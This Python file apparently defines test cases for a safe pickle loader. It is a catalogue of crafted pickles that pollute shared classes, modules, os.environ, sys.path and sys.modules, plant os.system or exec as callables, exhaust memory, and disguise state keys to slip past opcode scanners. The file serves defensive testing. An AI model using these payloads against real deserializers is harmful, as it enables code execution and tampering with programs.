"""Attacks that change what the whole program shares: classes, modules, functions, enum members, settings."""

from __future__ import annotations

from functools import partial
from typing import Any

from attacks.assembler import (
    ADDITEMS,
    APPEND,
    APPENDS,
    BINGET,
    BINPUT,
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    GLOBAL,
    INST,
    MARK,
    NEWOBJ,
    POP,
    SETITEM,
    SETITEMS,
    Code,
    build,
    call,
    memoized,
    name,
    new,
    pickled,
    slots,
    stack_global,
    text,
    value,
)
from attacks.canary import PYTHON, SHELL
from attacks.case import CRASH, DATA, ERROR, IMPORTED, LOADED, MALFORMED, MEMORY, POLLUTED, RAN, REFUSED, Theme

theme = Theme("pollution")

VICTIMS = "attacks.victims"
PLAIN = "attacks.victims.Plain"
EVERYTHING = ("attacks.victims.*",)
BUILD_OR_REFUSE = (REFUSED, MALFORMED, "BuildError")


# --- BUILD on what a global names ---------------------------------------------------------------------------------

_ON_GLOBALS: dict[str, tuple[str, dict[str, Any]]] = {
    "class_attribute": (PLAIN, {"limit": 10**9}),
    "class_method": (PLAIN, {"__init__": name("builtins.print")}),
    "class_bases": ("attacks.victims.Names", {"__bases__": (name("attacks.victims.Table"),)}),
    "class_module": (PLAIN, {"__module__": "builtins"}),
    "class_reduce": (PLAIN, {"__reduce_ex__": name("builtins.print")}),
    "enum_class": ("attacks.victims.Color", {"__doc__": "x"}),
    "function_code": (
        "attacks.victims.helper",
        {"__code__": call("builtins.getattr", name("textwrap.dedent"), "__code__")},
    ),
    "function_defaults": ("attacks.victims.helper", {"__defaults__": (666,)}),
    "function_attribute": ("attacks.victims.helper", {"checked": True}),
    "function_wrapped": ("attacks.victims.helper", {"__wrapped__": name("os.system")}),
    "module_of_stdlib": ("os.path", {"join": name("os.system")}),
    "module_of_numpy": ("numpy.linalg", {"norm": name("os.system")}),
    "module_level_object": ("attacks.victims.CURRENT", {"limit": 10**9}),
    "stdlib_class": ("textwrap.TextWrapper", {"wrap": name("os.system")}),
    "stdlib_decoder": ("json.JSONDecoder", {"decode": name("os.system")}),
    "default_context": ("decimal.DefaultContext", {"prec": 1}),
    "root_logger": ("logging.root", {"disabled": True}),
    "onggi_limits": ("onggi.Limits", {"max_depth": 10**9}),
    "pickle_module": ("pickle.Unpickler", {"find_class": name("builtins.eval")}),
}


def _slots_on_global(target: str, attributes: dict[str, Any]) -> bytes:
    return pickled(slots(name(target), attributes))


for _key, (_target, _attributes) in _ON_GLOBALS.items():
    theme.add(
        f"slots_on_{_key}",
        "BUILD with slot state on a global",
        partial(_slots_on_global, _target, _attributes),
        f"Sets {', '.join(_attributes)} of {_target} for the whole program.",
        verdict=REFUSED,
        plain=(POLLUTED, IMPORTED, ERROR) if _key.startswith(("onggi", "pickle", "class_bases")) else POLLUTED,
        allow=EVERYTHING,
    )


@theme.case("BUILD with a dict on a global", plain=POLLUTED, allow=EVERYTHING)
def dict_on_module() -> bytes:
    """Updates the namespace of the module itself: a module has a dict, so plain state is enough."""
    return pickled(build(stack_global("attacks", "victims"), {"PROTECTED": []}))


@theme.case("BUILD with a dict on a global", plain=POLLUTED, allow=EVERYTHING)
def dict_on_function() -> bytes:
    """Updates the dict of a function."""
    return pickled(build(name("attacks.victims.helper"), {"cached": 1}))


@theme.case("BUILD with a dict on a global", plain=POLLUTED, allow=EVERYTHING)
def dict_on_module_level_object() -> bytes:
    """Updates the dict of an object that the allowed module holds."""
    return pickled(build(name("attacks.victims.CURRENT"), {"limit": 10**9}))


@theme.case("BUILD on a global fetched from the memo", plain=POLLUTED, allow=EVERYTHING)
def build_on_memoized_class() -> bytes:
    """Makes an honest object, then BUILDs on its class, fetched from the memo."""
    honest = memoized(name(PLAIN), 0) + EMPTY_TUPLE + NEWOBJ + value({"a": 1}) + BUILD + POP
    return pickled(honest + slots(BINGET(0), {"limit": 10**9}))


@theme.case("BUILD on what a look-up returned", plain=POLLUTED)
def build_on_logger() -> bytes:
    """Switches a logger off: loggers pickle as a look-up by name, so the look-up is honest."""
    return pickled(build(call("logging.getLogger", "victim"), {"disabled": True}))


@theme.case("BUILD on what a look-up returned", plain=POLLUTED)
def build_on_http_status() -> bytes:
    """Changes a member of a standard enum, which pickles as a call with its value."""
    return pickled(build(call("http.HTTPStatus", 200), {"phrase": "Forbidden"}))


@theme.case("BUILD on what a look-up returned", plain=POLLUTED, allow=("attacks.victims.Color",))
def build_on_enum_member() -> bytes:
    """Changes the value of a member of an allowed enum."""
    return pickled(build(call("attacks.victims.Color", 1), {"_value_": 2, "_name_": "GREEN"}))


@theme.case("BUILD on what a look-up returned", plain=POLLUTED, allow=("attacks.victims.Rights",))
def build_on_flag_member() -> bytes:
    """Changes a member of an allowed flag through slot state."""
    return pickled(slots(call("attacks.victims.Rights", 1), {"_value_": 3}))


@theme.case("BUILD on what a look-up returned", plain=POLLUTED, allow=EVERYTHING)
def build_on_getattr() -> bytes:
    """Gets a function out of an allowed class by `getattr` and changes its defaults."""
    method = call("builtins.getattr", name("attacks.victims.Record"), "__init__")
    return pickled(slots(method, {"__defaults__": (666,)}))


@theme.case(
    "BUILD on what a look-up returned", plain=(POLLUTED, ERROR, LOADED), needs=("numpy",), verdict=(REFUSED, DATA)
)
def build_on_builtin_dtype() -> bytes:
    """Changes numpy's own float64 dtype: `dtype("f8")` without the copy flag is the one that all arrays share."""
    return pickled(build(call("numpy.dtype", "f8", False, False), (3, ">", None, None, None, -1, -1, 0)))


@theme.case("BUILD on what a look-up returned", plain=POLLUTED)
def build_on_module_from_import() -> bytes:
    """Imports a module by a call and sets attributes of it."""
    return pickled(build(call("importlib.import_module", "textwrap"), {"dedent": name("os.system")}))


@theme.case("BUILD on a class made by type()", plain=(POLLUTED, LOADED))
def build_on_base_of_made_class() -> bytes:
    """Fetches `object` as a value and tries to BUILD on it through a subclass."""
    return pickled(
        slots(call("builtins.type", "Made", (name("builtins.object"),), {}), {"__eq__": name("builtins.len")})
    )


# --- state keys that the machine or a library calls ---------------------------------------------------------------

_CALLED_KEYS = {
    "setstate": "__setstate__",
    "append": "append",
    "extend": "extend",
    "add": "add",
    "array": "__array__",
    "array_interface": "__array_interface__",
    "array_struct": "__array_struct__",
    "array_ufunc": "__array_ufunc__",
    "array_function": "__array_function__",
    "deepcopy": "__deepcopy__",
    "reduce": "__reduce__",
    "reduce_ex": "__reduce_ex__",
    "getstate": "__getstate__",
    "sklearn_clone": "__sklearn_clone__",
    "sklearn_tags": "__sklearn_tags__",
    "dataframe": "__dataframe__",
    "fspath": "__fspath__",
    "annotations": "__annotations__",
}


def _state_key(key: str) -> bytes:
    return pickled(build(new(PLAIN), {"ok": 1, key: name("builtins.list")}))


for _key, _attribute in _CALLED_KEYS.items():
    theme.add(
        f"state_key_{_key}",
        "state key that the machine or a library calls",
        partial(_state_key, _attribute),
        f"Plants `{_attribute}` on an object of an allowed class; who finds it there, calls or trusts it.",
        verdict=REFUSED,
        plain=LOADED,
        allow=(PLAIN,),
    )


@theme.case("guard evaded through a planted method", plain=(MEMORY, ERROR), allow=(PLAIN,))
def setstate_is_bytearray() -> bytes:
    """Plants the known type `bytearray` as `__setstate__`; a second BUILD calls it with 10**11."""
    return pickled(build(build(new(PLAIN), {"__setstate__": name("builtins.bytearray")}), 10**11))


@theme.case("guard evaded through a planted method", plain=(MEMORY, ERROR), allow=(PLAIN,))
def append_is_bytearray() -> bytes:
    """Plants `bytearray` as `append`; APPEND calls it with 10**11."""
    return pickled(build(new(PLAIN), {"append": name("builtins.bytearray")}) + value(10**11) + APPEND)


@theme.case("guard evaded through a planted method", plain=(MEMORY, ERROR), allow=(PLAIN,))
def add_is_list_of_range() -> bytes:
    """Plants `list` as `add`; ADDITEMS calls it with a range of 10**9."""
    items = MARK + call("builtins.range", 10**9) + ADDITEMS
    return pickled(build(new(PLAIN), {"add": name("builtins.list")}) + items)


@theme.case("guard evaded through a planted method", plain=(MEMORY, ERROR), allow=(PLAIN,))
def setstate_by_interned_key() -> bytes:
    """Writes the key `__setstate__` in raw escapes and as text of Python 2, so that its bytes are not in the file."""
    key = Code(b"V\\u005f\\u005fsetstate__\n")
    state = EMPTY_DICT + key + name("builtins.bytearray") + SETITEM
    return pickled(build(build(new(PLAIN), state), 10**11))


@theme.case("guard evaded through a planted method", plain=(MEMORY, ERROR), allow=(PLAIN,))
def setstate_key_made_at_run_time() -> bytes:
    """Makes the key by a call, so that no reader of the opcodes sees it."""
    key = call("_codecs.decode", b"__setstate__", "latin1")
    state = EMPTY_DICT + key + name("builtins.bytearray") + SETITEM
    return pickled(build(build(new(PLAIN), state), 10**11))


@theme.case("guard evaded through a planted method", plain=(MEMORY, ERROR), allow=(PLAIN,))
def state_dict_made_at_run_time() -> bytes:
    """Makes the state by a call of `dict` with pairs, so that its keys are not those of a dict in the opcodes."""
    state = call("builtins.dict", [("__setstate__", name("builtins.bytearray"))])
    return pickled(build(build(new(PLAIN), state), 10**11))


# --- state that changes after BUILD has looked at it --------------------------------------------------------------


@theme.case("state dict changed after BUILD", plain=(MEMORY, ERROR), allow=("attacks.victims.KeepsState",))
def kept_dict_gets_setstate() -> bytes:
    """The class keeps the dict it is given; the pickle adds `__setstate__` to that dict afterwards.

    A class attribute of that name is found first, so the dict gets `append` instead, and APPEND calls it.
    """
    carrier = build(new("attacks.victims.KeepsState"), memoized(EMPTY_DICT, 1))
    planted = BINGET(1) + value("append") + name("builtins.bytearray") + SETITEM + POP
    return pickled(memoized(carrier, 0) + planted + value(10**11) + APPEND)


@theme.case("state dict changed after BUILD", plain=LOADED, allow=("attacks.victims.KeepsState",))
def kept_dict_gets_array_interface() -> bytes:
    """The class keeps the dict; the pickle adds `__array_interface__`, which points numpy at any address."""
    carrier = build(new("attacks.victims.KeepsState"), memoized(EMPTY_DICT, 1))
    planted = BINGET(1) + value("__array_interface__") + value({"data": (64, True)}) + SETITEM + POP
    return pickled(carrier + planted)


@theme.case("state dict changed after BUILD", plain=LOADED, allow=("attacks.victims.KeepsState",))
def kept_dict_changed_through_itself() -> bytes:
    """The dict that the class keeps holds itself under another key, and is changed through that."""
    state = memoized(EMPTY_DICT, 1) + value("me") + BINGET(1) + SETITEM
    carrier = build(new("attacks.victims.KeepsState"), state)
    planted = BINGET(1) + MARK + value("__array__") + name("builtins.len") + SETITEMS + POP
    return pickled(carrier + planted)


@theme.case("state dict changed after BUILD", plain=(MEMORY, ERROR), allow=EVERYTHING)
def dict_of_one_object_kept_by_another() -> bytes:
    """One object keeps the dict; a second object's BUILD on the same dict is checked when it is still empty."""
    state = memoized(EMPTY_DICT, 1)
    first = memoized(build(new("attacks.victims.KeepsState"), state), 0)
    other = build(new("attacks.victims.KeepsState"), BINGET(1)) + POP
    planted = BINGET(1) + value("append") + name("builtins.bytearray") + SETITEM + POP
    return pickled(first + POP + other + planted + BINGET(0) + value(10**11) + APPEND)


@theme.case("state dict changed after BUILD", plain=LOADED, verdict=DATA, allow=("attacks.victims.KeepsState",))
def kept_dict_is_honestly_recursive() -> bytes:
    """An object in a cycle with its own state, as pickle itself writes it: data."""
    carrier = memoized(new("attacks.victims.KeepsState"), 0)
    return pickled(build(carrier, {"me": BINGET(0), "n": 1}))


@theme.case(
    "dtype changed under its array",
    plain=(CRASH, ERROR, LOADED),
    needs=("numpy",),
    use=lambda obj: obj.tolist(),
    verdict=(REFUSED, DATA),
)
def dtype_changed_under_array() -> bytes:
    """Makes an array of raw bytes and then turns its dtype, by a second BUILD, into one of object pointers."""
    dtype = memoized(call("numpy.dtype", "V8", False, True), 0)
    first = build(dtype, (3, "|", None, None, None, 8, 1, 0)) + POP
    array = memoized(call("numpy._core.numeric._frombuffer", b"A" * 8, BINGET(0), (1,), "C"), 1) + POP
    as_object = build(BINGET(0), (3, "|", None, ("o",), {"o": (name_of_object_dtype(), 0)}, 8, 1, 0x3F)) + POP
    return pickled(first + array + as_object + BINGET(1))


def name_of_object_dtype() -> Code:
    """Spell numpy's object dtype."""
    return call("numpy.dtype", "O8", False, True)


# --- type changes -------------------------------------------------------------------------------------------------


@theme.case("__class__ as a state key", plain=LOADED, allow=EVERYTHING)
def class_changed_by_slots() -> bytes:
    """Turns an object into one of another class after it was built."""
    return pickled(slots(new(PLAIN), {"__class__": name("attacks.victims.Other")}))


@theme.case("__class__ as a state key", plain=LOADED, allow=EVERYTHING, verdict=(REFUSED, DATA))
def class_in_plain_state() -> bytes:
    """Puts `__class__` into the dict of an object, where only code that reads `vars` sees it."""
    return pickled(build(new(PLAIN), {"__class__": name("attacks.victims.Other")}))


@theme.case("__dict__ as a slot", plain=LOADED, allow=EVERYTHING)
def dict_replaced_by_slots() -> bytes:
    """Replaces the object's whole dict by one that the pickle can go on changing."""
    planted = memoized(EMPTY_DICT, 1)
    changed = BINGET(1) + value("append") + name("builtins.len") + SETITEM + POP
    return pickled(slots(new(PLAIN), {"__dict__": planted}) + changed)


@theme.case("slot state through a property", plain=RAN, allow=("attacks.victims.Guarded",), verdict=BUILD_OR_REFUSE)
def property_setter_by_slots() -> bytes:
    """Sets a property by slot state: no honest pickle names anything but slots there, and the setter runs."""
    return pickled(slots(new("attacks.victims.Guarded"), {"command": "x"}))


_SETTERS: dict[str, Code] = {
    "of_base": slots(new("attacks.victims.GuardedSlots"), {"command": "x"}),
    "beside_a_real_slot": slots(new("attacks.victims.GuardedSlots"), {"left": 1, "command": "x"}),
    "beside_a_dict": build(new("attacks.victims.Guarded"), ({"a": 1}, {"command": "x"})),
    "of_what_reduce_made": slots(call("attacks.victims.Guarded"), {"command": "x"}),
    "of_what_reconstructor_made": slots(
        call("copyreg._reconstructor", name("attacks.victims.Guarded"), name("builtins.object"), None),
        {"command": "x"},
    ),
    "of_what_inst_made": slots(MARK + INST(VICTIMS, "Guarded"), {"command": "x"}),
    "by_a_state_from_the_memo": memoized(value((None, {"command": "x"})), 0)
    + POP
    + new("attacks.victims.Guarded")
    + BINGET(0)
    + BUILD,
    "by_slots_made_at_run_time": build(
        new("attacks.victims.Guarded"), (None, call("builtins.dict", [("command", "x")]))
    ),
    "by_a_name_made_at_run_time": build(
        new("attacks.victims.Guarded"), (None, EMPTY_DICT + call("builtins.str", "command") + value("x") + SETITEM)
    ),
    "of_a_watched_class": slots(new("attacks.victims.Watched"), {"anything": "x"}),
    "of_a_mapped_class": slots(new("attacks.victims.Mapped"), {"name": "x"}),
}


def _given(code: Code) -> bytes:
    return pickled(code)


for _key, _code in _SETTERS.items():
    theme.add(
        f"setter_by_slots_{_key}",
        "slot state through a property",
        partial(_given, _code),
        "Sets by slot state what is no slot: the class's own code runs, which no honest pickle makes it do.",
        verdict=BUILD_OR_REFUSE,
        plain=RAN,
        allow=EVERYTHING,
    )


@theme.case("slot state through a property", plain=LOADED, verdict=DATA, allow=EVERYTHING)
def real_slots_of_a_class_with_a_property() -> bytes:
    """Sets a slot of a class that has a property, too, as an honest pickle does: data."""
    return pickled(slots(new("attacks.victims.GuardedSlots"), {"left": 1}))


@theme.case("slot state of odd shape", plain=ERROR, allow=EVERYTHING, verdict=BUILD_OR_REFUSE)
def slots_unknown_to_class() -> bytes:
    """Sets a slot that the class does not have."""
    return pickled(slots(new("attacks.victims.Slotted"), {"middle": 1}))


@theme.case("slot state of odd shape", plain=ERROR, allow=EVERYTHING, verdict=BUILD_OR_REFUSE)
def slot_names_are_ints() -> bytes:
    """Gives slot names that are no text."""
    return pickled(build(new(PLAIN), (None, EMPTY_DICT + value(1) + value(2) + SETITEM)))


@theme.case("slot state of odd shape", plain=ERROR, allow=EVERYTHING, verdict=BUILD_OR_REFUSE)
def slot_state_is_a_list() -> bytes:
    """Gives a list as slot state."""
    return pickled(build(new(PLAIN), (None, [1, 2])))


@theme.case("slot state of odd shape", plain=ERROR, allow=EVERYTHING, verdict=BUILD_OR_REFUSE)
def state_is_a_number() -> bytes:
    """Gives a number as state."""
    return pickled(build(new(PLAIN), 7))


@theme.case("frozen dataclass built twice", plain=LOADED, allow=EVERYTHING, verdict=(REFUSED, DATA))
def frozen_built_twice() -> bytes:
    """Gives a frozen dataclass state twice, so that its hash changes while it is a key."""
    key = memoized(build(new("attacks.victims.Frozen"), ["a"]), 0)
    table = EMPTY_DICT + key + value(1) + SETITEM
    return pickled(table + POP + build(BINGET(0), ["b"]))


# --- containers of the program ------------------------------------------------------------------------------------

_SHARED: dict[str, tuple[Code, Code]] = {
    "class_dict_by_dots": (stack_global(VICTIMS, "Registry.entries"), value("admin") + value(True) + SETITEM),
    "class_list_by_dots": (stack_global(VICTIMS, "Registry.handlers"), name("os.system") + APPEND),
    "class_set_by_dots": (stack_global(VICTIMS, "Registry.roles"), MARK + value("admin") + ADDITEMS),
    "class_dict_by_getattr": (
        call("builtins.getattr", name("attacks.victims.Registry"), "entries"),
        MARK + value("admin") + value(True) + SETITEMS,
    ),
    "class_list_by_getattr": (
        call("builtins.getattr", name("attacks.victims.Registry"), "handlers"),
        MARK + value(1) + value(2) + APPENDS,
    ),
    "module_dict": (name("attacks.victims.SETTINGS"), value("debug") + value(True) + SETITEM),
    "module_list": (name("attacks.victims.PROTECTED"), value("evil") + APPEND),
    "members_of_enum": (stack_global(VICTIMS, "Color._member_map_"), value("BLUE") + value(3) + SETITEM),
    "environment": (name("os.environ"), value("PATH") + value(".") + SETITEM),
    "module_search_path": (name("sys.path"), value("/tmp") + APPEND),
    "warning_filters": (name("warnings.filters"), value(("ignore", None, name("builtins.Warning"), None, 0)) + APPEND),
    "dispatch_table": (name("copyreg.dispatch_table"), name(PLAIN) + name("os.system") + SETITEM),
    "logger_handlers": (
        call("builtins.getattr", call("logging.getLogger", "victim"), "handlers"),
        value(1) + APPEND,
    ),
    "builtins_namespace": (stack_global("builtins", "__dict__"), value("license") + name("builtins.repr") + SETITEM),
}


def _change_shared(target: Code, change: Code) -> bytes:
    return pickled(target + change)


for _key, (_container, _change) in _SHARED.items():
    theme.add(
        f"shared_{_key}",
        "container opcode on a container of the program",
        partial(_change_shared, _container, _change),
        f"Adds to a container that the whole program shares ({_key.replace('_', ' ')}).",
        verdict=REFUSED,
        plain=POLLUTED,
        allow=EVERYTHING,
    )


@theme.case("sys.modules changed", plain=IMPORTED)
def modules_get_a_fake() -> bytes:
    """Registers an object as the module `secrets_of_app` for whoever imports it next."""
    return pickled(name("sys.modules") + value("secrets_of_app") + name("collections.OrderedDict") + SETITEM)


@theme.case("in-place operator on a container of the program", plain=POLLUTED, allow=EVERYTHING)
def in_place_operator() -> bytes:
    """Adds to a class's list by `operator.iadd`."""
    return pickled(call("operator.iadd", stack_global(VICTIMS, "Registry.handlers"), [1]))


@theme.case("ABC registration", plain=POLLUTED)
def register_with_abc() -> bytes:
    """Registers a class with an abstract base class, so that `isinstance` answers otherwise."""
    register = call("builtins.getattr", name("collections.abc.Mapping"), "register")
    return pickled(call(register, name(PLAIN)))


@theme.case("singledispatch registration", plain=LOADED)
def register_with_singledispatch() -> bytes:
    """Registers an implementation with a generic function of the standard library."""
    register = stack_global("pkgutil", "iter_importer_modules.register")
    return pickled(call(register, name(PLAIN), name("builtins.print")) + POP + value(1))


@theme.case("codec registration", plain=LOADED)
def register_codec() -> bytes:
    """Registers a function that is asked for every unknown encoding from now on."""
    return pickled(call("codecs.register", name("builtins.len")))


@theme.case("global changed through its own pickled state", plain=POLLUTED)
def random_state_of_module() -> bytes:
    """Gives the program's shared random generator a state of the attacker's choice, by a call."""
    setstate = stack_global("random", "setstate")
    return pickled(call(setstate, (3, tuple([7] * 624 + [624]), None)))


@theme.case("global changed through its own pickled state", plain=POLLUTED)
def random_state_by_build() -> bytes:
    """The same by BUILD on the module's generator, whose own `__setstate__` takes it."""
    return pickled(build(name("random._inst"), (3, tuple([7] * 624 + [624]), None)))


@theme.case("BUILD replaces what a callable wraps", plain=RAN)
def partial_rewritten_by_state() -> bytes:
    """Makes a partial of an innocent function; its state then replaces the function by `os.system`."""
    innocent = call("functools.partial", name("builtins.len"))
    changed = build(innocent, (name("os.system"), (SHELL,), {}, {}))
    return pickled(call(changed))


@theme.case("BUILD replaces what a callable wraps", plain=(RAN, ERROR), use=lambda obj: obj["x"])
def default_factory_by_slots() -> bytes:
    """Sets `default_factory` of a defaultdict by slot state; the next missing key calls it."""
    factory = call("functools.partial", name("os.system"), SHELL)
    return pickled(slots(call("collections.defaultdict", name("builtins.list")), {"default_factory": factory}))


@theme.case("exception state", plain=RAN, use=repr)
def exception_with_planted_class() -> bytes:
    """Gives an exception attributes that are callables, for handlers that call what they find."""
    error = build(call("builtins.OSError", 2, "x"), {"__setstate__": name("os.system")})
    return pickled(build(error, SHELL))


@theme.case("exception state", plain=LOADED, verdict=(REFUSED, DATA))
def exception_with_plain_notes() -> bytes:
    """Gives an exception plain attributes, as honest pickles do: data."""
    return pickled(build(call("builtins.ValueError", "x"), {"code": 7}))


@theme.case("object of a class made by INST given class state", plain=(POLLUTED, LOADED, ERROR), allow=EVERYTHING)
def inst_then_slots_on_class() -> bytes:
    """Makes an object by INST and reaches its class by `__class__` to BUILD on it."""
    instance = MARK + INST(VICTIMS, "Plain")
    return pickled(slots(call("builtins.getattr", instance, "__class__"), {"limit": 10**9}))


@theme.case("SETITEM on a class or module", plain=ERROR, allow=EVERYTHING, verdict=(REFUSED, MALFORMED))
def setitem_on_class() -> bytes:
    """Uses SETITEM on a class."""
    return pickled(name(PLAIN) + value("limit") + value(10**9) + SETITEM)


@theme.case("APPEND to something that is no list", plain=ERROR, verdict=(REFUSED, MALFORMED))
def append_to_text() -> bytes:
    """Uses APPEND on a str."""
    return pickled(text("x") + value(1) + APPEND)


@theme.case("APPEND to something that is no list", plain=ERROR, verdict=(REFUSED, MALFORMED))
def append_to_tuple() -> bytes:
    """Uses APPENDS on a tuple."""
    return pickled(value((1, 2)) + MARK + value(3) + APPENDS)


@theme.case("APPEND to something that is no list", plain=(RAN, LOADED, ERROR), verdict=(REFUSED, MALFORMED))
def append_to_a_deque_of_limits() -> bytes:
    """Uses APPEND on an array of bytes, whose `append` takes numbers only."""
    return pickled(value(bytearray(b"x")) + value(65) + APPEND)


@theme.case("SETITEM on something that is no dict", plain=LOADED, verdict=(REFUSED, MALFORMED))
def setitem_on_list() -> bytes:
    """Uses SETITEM on a list, which pickle itself allows."""
    return pickled(value([1, 2]) + value(0) + value(9) + SETITEM)


@theme.case(
    "SETITEM on something that is no dict", plain=(LOADED, ERROR), verdict=(REFUSED, MALFORMED), needs=("numpy",)
)
def setitem_on_array() -> bytes:
    """Uses SETITEM on a numpy array, to write past checks (CVE-2026-24747 of torch's reader)."""
    array = call("numpy._core.numeric._frombuffer", bytearray(8), call("numpy.dtype", "u1", False, True), (8,), "C")
    return pickled(array + value(3) + value(7) + SETITEM)


@theme.case("BUILD on a container or number", plain=ERROR, verdict=(REFUSED, MALFORMED))
def build_on_list() -> bytes:
    """Gives state to a list."""
    return pickled(build(EMPTY_LIST, {"x": 1}))


@theme.case("BUILD on a container or number", plain=ERROR, verdict=(REFUSED, MALFORMED))
def build_on_text() -> bytes:
    """Gives state to a str."""
    return pickled(build(text("x"), {"upper": name("os.system")}))


@theme.case("BUILD on a container or number", plain=ERROR, verdict=(REFUSED, MALFORMED))
def build_on_none() -> bytes:
    """Gives state to None."""
    return pickled(build(Code(b"N"), {"x": 1}))


@theme.case(
    "handlers kept by an allowed class",
    plain=RAN,
    allow=("attacks.victims.SharesState",),
    use=lambda obj: obj.handle(PYTHON),
)
def handlers_with_exec() -> bytes:
    """Gives an allowed class a table of handlers with `exec` in it: the class is allowed, the handler is not."""
    return pickled(build(new("attacks.victims.SharesState"), {PYTHON: name("builtins.exec")}))


@theme.case("attribute that redirects a look-up", plain=ERROR, allow=EVERYTHING, verdict=BUILD_OR_REFUSE)
def reconstructor_with_other_base() -> bytes:
    """Makes a list subclass through `copyreg._reconstructor` with a base that is not its own."""
    return pickled(call("copyreg._reconstructor", name("attacks.victims.Names"), name("builtins.dict"), {}), proto=2)


@theme.case("memo that aliases a class and its object", plain=POLLUTED, allow=EVERYTHING)
def memo_swaps_object_for_class() -> bytes:
    """Stores an object at an index, then its class at the same, and BUILDs on what it fetches."""
    stored = new(PLAIN) + BINPUT(5) + POP + name(PLAIN) + BINPUT(5) + POP
    return pickled(stored + slots(BINGET(5), {"limit": 10**9}))


@theme.case("global by the text opcode as a BUILD target", plain=POLLUTED, allow=EVERYTHING)
def build_on_text_global() -> bytes:
    """Does it all in protocol 0."""
    return pickled(slots(GLOBAL("attacks.victims", "Plain"), {"limit": 10**9}), proto=0)
